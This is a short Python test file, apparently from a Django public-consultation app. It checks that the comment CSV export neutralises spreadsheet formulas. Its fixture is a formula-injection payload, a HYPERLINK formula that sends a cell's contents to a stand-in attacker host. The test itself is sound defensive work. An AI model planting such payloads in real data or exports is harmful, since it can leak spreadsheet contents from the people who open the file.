"""The comment export never hands a spreadsheet a formula (issue 13, point 3): a body written as one is text."""
from __future__ import annotations

import csv
import io

import pytest

from comments import services

ATTACK = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.django_db
def test_the_comment_export_csv_neutralises_a_formula_body(client, aigerim, draft_provision):
    services.comment_submit(author=aigerim, provision_id=draft_provision.pk, body=ATTACK, stance="oppose", language="en")
    answer = client.get("/api/v1/consultations/tarvania-2026/export/comments.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
    assert rows and rows[0]["body"] == "'" + ATTACK
    assert not any(str(value).startswith(("=", "+", "@")) for row in rows for value in row.values())
